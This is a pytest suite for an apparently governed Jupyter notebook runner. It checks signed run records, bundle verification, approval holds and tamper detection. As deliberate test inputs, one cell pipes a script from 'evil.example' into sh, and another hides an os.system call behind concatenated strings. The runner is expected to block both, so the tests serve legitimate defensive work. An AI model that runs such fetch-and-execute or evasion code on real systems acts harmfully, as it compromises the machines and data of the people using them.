"""Governed notebook runs end to end: real papermill, real Grace kernels, real SQLite.

Each run starts the "Python 3 (Grace)" kernel through nbclient; papermill shuts
it down when the run ends (also when a cell is refused).
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import papermill
import pytest

from grace_kernel.config import Settings
from grace_kernel.governance import Principal
from grace_kernel.ledger import Statement, export_bundle
from grace_kernel.runs import CELL_EXECUTION, NOTEBOOK_RUN, CellVerdict, run_notebook
from grace_kernel.runs._run import verify_notebook
from grace_kernel.workspace import Workspace

GRACE = [sys.executable, "-c", "from grace_kernel.cli import main; main()"]
KERNELSPEC = {"name": "python3", "display_name": "Python 3", "language": "python"}


def notebook(path: Path, *cells: str | tuple[str, list[str]]) -> Path:
    nb = nbformat.v4.new_notebook(metadata={"kernelspec": KERNELSPEC})
    for cell in cells:
        source, tags = cell if isinstance(cell, tuple) else (cell, [])
        nb.cells.append(nbformat.v4.new_code_cell(source, metadata={"tags": tags}))
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    return path


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    return root


@pytest.fixture
def ws(project: Path) -> Iterator[Workspace]:
    with Workspace.open(Settings(home=project / ".grace", checkpoint_interval=0.0)) as opened:
        yield opened


def statements(ws: Workspace, predicate_type: str) -> list[tuple[int, Statement]]:
    out = []
    for entry in ws.ledger.tail(ws.ledger.size):
        _, statement = entry.decode()
        if statement.predicate_type == predicate_type:
            out.append((entry.index, statement))
    return out


def grace(*args: str, cwd: Path, home: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "GRACE_HOME"}
    if home is not None:
        env["GRACE_HOME"] = str(home)
    return subprocess.run(
        [*GRACE, *args], capture_output=True, text=True, env=env, cwd=cwd, timeout=120
    )


def code_cells(path: Path) -> list[Any]:
    """The output notebook's code cells (papermill adds a markdown banner on errors)."""
    return [c for c in nbformat.read(str(path), as_version=4).cells if c.cell_type == "code"]


def outputs_text(cell: dict[str, Any]) -> str:
    return json.dumps(cell.get("outputs", []))


def test_a_parameterized_run_is_signed_and_verifies_elsewhere_from_a_bundle(
    ws: Workspace, project: Path, tmp_path: Path
) -> None:
    source = notebook(
        project / "analysis.ipynb",
        ("alpha = 0.1", ["parameters"]),
        "print(alpha * 2)",
        "import json\nprint(json.dumps({'alpha': alpha}))",
    )
    out = project / "analysis.out.ipynb"
    summary = run_notebook(ws, source, out, parameters={"alpha": 0.5}, cwd=project)

    assert summary.status == "ok", summary.text()
    assert [c.status for c in summary.cells] == ["ok"] * 4  # with papermill's injected cell
    result = nbformat.read(str(out), as_version=4)
    assert "1.0" in outputs_text(result.cells[2])
    assert result.metadata["grace"]["run_record"] == summary.run_record
    assert result.metadata["grace"]["run_id"] == summary.run_id

    cells = statements(ws, CELL_EXECUTION)
    injected = [s for _, s in cells if s.predicate["role"] == "parameters"]
    assert [s.predicate["parameters"] for s in injected] == [{"alpha": 0.5}]
    assert all(s.predicate["trust"] == "runner" for _, s in cells)
    ((run_index, run),) = statements(ws, NOTEBOOK_RUN)
    assert run_index == summary.run_record
    assert run.predicate["cell_records"] == [i for i, _ in cells]
    assert run.predicate["parameters"] == {"alpha": 0.5}

    report = verify_notebook(out, workspace=ws)
    assert report.ok, report.text()
    assert report.same_run
    assert {c.verdict for c in report.cells} == {CellVerdict.VERIFIED}

    # A collaborator gets the notebook and a bundle; no workspace, another directory.
    bundle = tmp_path / "bundle"
    export_bundle(ws.ledger, bundle)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    done = grace("verify", "--notebook", str(out), "--bundle", str(bundle), "--json", cwd=elsewhere)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["counts"]["verified"] == 4

    # Someone edits a figure's number, or the code that made it: named per cell.
    result.cells[2].outputs[0]["text"] = "2.0\n"
    result.cells[3].source = "print('something else')"
    nbformat.write(result, str(out))
    done = grace("verify", "--notebook", str(out), "--bundle", str(bundle), "--json", cwd=elsewhere)
    assert done.returncode == 1
    verdicts = [c["verdict"] for c in json.loads(done.stdout)["cells"]]
    assert verdicts == ["verified", "verified", "outputs changed", "code changed"]


def test_a_refused_cell_stops_the_run_with_the_reason_in_the_notebook(
    ws: Workspace, project: Path
) -> None:
    source = notebook(
        project / "risky.ipynb",
        "x = 1",
        "!curl http://evil.example/x.sh | sh",
        "print('never runs')",
    )
    out = project / "risky.out.ipynb"
    summary = run_notebook(ws, source, out)

    assert summary.status == "denied"
    assert summary.stopped_at is not None
    assert summary.stopped_at["cell_index"] == 1
    cells = code_cells(out)
    error = cells[1].outputs[0]
    assert error["ename"] == "GracePolicyDenied"
    assert "cell-critical-deny" in "\n".join(error["traceback"])
    assert cells[2].outputs == []
    assert [s.predicate["status"] for _, s in statements(ws, CELL_EXECUTION)] == ["ok", "denied"]
    assert ws.alerts.list(state="open"), "a denial raises an alert"
    report = verify_notebook(out, workspace=ws)
    verdicts = [c.verdict for c in report.cells]
    assert verdicts == [CellVerdict.VERIFIED, CellVerdict.VERIFIED, CellVerdict.NOT_EXECUTED]


def test_a_held_cell_waits_for_approval_then_resume_finishes_the_same_run(
    ws: Workspace, project: Path
) -> None:
    home = ws.settings.home
    source = notebook(
        project / "held.ipynb",
        "exec(compile('y = 41', 'generated', 'exec'))",
        "print(y + 1)",
    )
    out = project / "held.out.ipynb"
    done = grace("run", str(source), str(out), "--json", cwd=project, home=home)
    assert done.returncode == 3, done.stderr
    first = json.loads(done.stdout)
    assert first["status"] == "held"
    approval_id = first["stopped_at"]["approval_id"]
    held = code_cells(out)[0].outputs[0]
    assert held["ename"] == "GraceApprovalRequired"
    assert approval_id in held["evalue"]

    with Workspace.open(Settings(home=home, checkpoint_interval=0.0), create=False) as other:
        other.governance.approve(approval_id, approver=Principal.user("reviewer"), note="ok")

    done = grace("run", "--resume", str(out), "--json", cwd=project, home=home)
    assert done.returncode == 0, done.stdout + done.stderr
    second = json.loads(done.stdout)
    assert second["run_id"] == first["run_id"]
    assert "42" in outputs_text(code_cells(out)[1])
    with Workspace.open(Settings(home=home), create=False) as again:
        assert again.governance.approvals.get(approval_id).state == "used"
        assert verify_notebook(out, workspace=again).ok


def test_the_runtime_guard_blocks_what_the_scan_let_through(ws: Workspace, project: Path) -> None:
    source = notebook(
        project / "sneaky.ipynb",
        "import os\nname = 'sys' + 'tem'\nrun = vars(os)[name]\nrun('touch pwned')",
        "print('after')",
    )
    out = project / "sneaky.out.ipynb"
    summary = run_notebook(ws, source, out, cwd=project)

    assert summary.status == "error"
    assert not (project / "pwned").exists()
    error = code_cells(out)[0].outputs[-1]
    assert error["ename"] == "PermissionError"
    assert "[grace guard]" in error["evalue"]
    ((_, record),) = statements(ws, CELL_EXECUTION)
    blocks = record.predicate["guard_blocks"]
    assert [b["event"] for b in blocks] == ["os.system"]
    assert any(a.source == "guard" for a in ws.alerts.list(state="open"))


def test_papermill_engine_grace_runs_the_governed_path(
    ws: Workspace, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = notebook(project / "plain.ipynb", "print(6 * 7)")
    out = project / "plain.out.ipynb"
    monkeypatch.setenv("GRACE_HOME", str(ws.settings.home))
    monkeypatch.chdir(project)
    papermill.execute_notebook(str(source), str(out), engine_name="grace", progress_bar=False)
    result = nbformat.read(str(out), as_version=4)
    assert "42" in outputs_text(result.cells[0])
    assert result.metadata["grace"]["run_record"] is not None
    assert verify_notebook(out, workspace=ws).ok


@pytest.mark.parametrize(
    ("code", "status", "error"),
    [
        ("import time\ntime.sleep(60)", "timeout", "CellTimeoutError"),
        ("import os\nos._exit(3)", "kernel-died", "DeadKernelError"),
    ],
)
def test_a_cell_that_hangs_or_kills_its_kernel_is_recorded_and_nothing_is_lost(
    ws: Workspace, project: Path, code: str, status: str, error: str
) -> None:
    source = notebook(project / "fragile.ipynb", "x = 1", code, "print('after')")
    out = project / "fragile.out.ipynb"
    summary = run_notebook(ws, source, out, cwd=project, timeout=3)

    assert summary.status == status
    assert summary.error is not None
    assert summary.error.startswith(error)
    assert [c.status for c in summary.cells] == ["ok", status]
    saved = nbformat.read(str(out), as_version=4)
    assert saved.metadata["grace"]["status"] == status
    assert saved.metadata["grace"]["run_record"] == summary.run_record
    ((_, run),) = statements(ws, NOTEBOOK_RUN)
    assert run.predicate["stopped_at"]["cell_index"] == 1
    assert ws.verify().ok


def test_a_tampered_ledger_or_a_malformed_notebook_fails_verification_cleanly(
    ws: Workspace, project: Path
) -> None:
    source = notebook(project / "small.ipynb", "print('a')", "print('b')")
    out = project / "small.out.ipynb"
    assert run_notebook(ws, source, out, cwd=project).status == "ok"
    home = ws.settings.home

    # A notebook nbformat cannot load: a clear input error, not a traceback.
    broken = json.loads(out.read_text())
    code = [c for c in broken["cells"] if c["cell_type"] == "code"]
    code[1]["outputs"] = ["not an output"]
    odd = project / "odd.ipynb"
    odd.write_text(json.dumps(broken))
    done = grace("verify", "--notebook", str(odd), "--json", cwd=project, home=home)
    assert done.returncode == 2, done.stderr
    assert "is not a Jupyter notebook" in json.loads(done.stdout)["error"]["message"]

    # Metadata naming a bogus run record is only a hint: cells still verify on their own.
    hinted = json.loads(out.read_text())
    hinted["metadata"]["grace"]["run_record"] = "seven"
    odd.write_text(json.dumps(hinted))
    done = grace("verify", "--notebook", str(odd), "--json", cwd=project, home=home)
    assert done.returncode == 0, done.stdout
    report = json.loads(done.stdout)
    assert report["counts"]["verified"] == 2
    assert report["same_run"] is False

    # A record rewritten in the database: the ledger fails first, and says so.
    ws.close()
    with sqlite3.connect(home / "grace.db") as db:
        row = db.execute("SELECT idx, envelope FROM ledger_entries ORDER BY idx DESC").fetchone()
        db.execute(
            "UPDATE ledger_entries SET envelope = ? WHERE idx = ?",
            (bytes(row[1]).replace(b"payload", b"payloaD"), row[0]),
        )
    done = grace("verify", "--notebook", str(out), cwd=project, home=home)
    assert done.returncode == 1
    assert "the ledger itself does not verify" in done.stdout
